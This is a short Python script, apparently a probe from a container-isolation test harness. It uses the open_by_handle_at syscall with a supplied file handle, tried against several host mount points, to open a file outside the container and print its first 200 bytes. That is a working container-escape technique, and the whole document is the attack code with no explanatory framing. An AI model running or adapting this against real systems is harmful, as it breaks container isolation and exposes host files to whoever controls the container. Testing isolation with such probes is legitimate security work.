"""Open a host file by its handle."""

from __future__ import annotations

import os

from inside import W, attempt, call

handle = bytes.fromhex(W["handle"])
for place in ("/", "/tmp", "/etc/hosts", "/var/tmp", "/usr", "/dev/shm", "/proc/self/cwd"):
    mount = attempt(os.open, place, os.O_RDONLY)
    if mount is not None:
        found = attempt(call, "open_by_handle_at", mount, handle, os.O_RDONLY)
        if found is not None:
            print(os.read(found, 200))
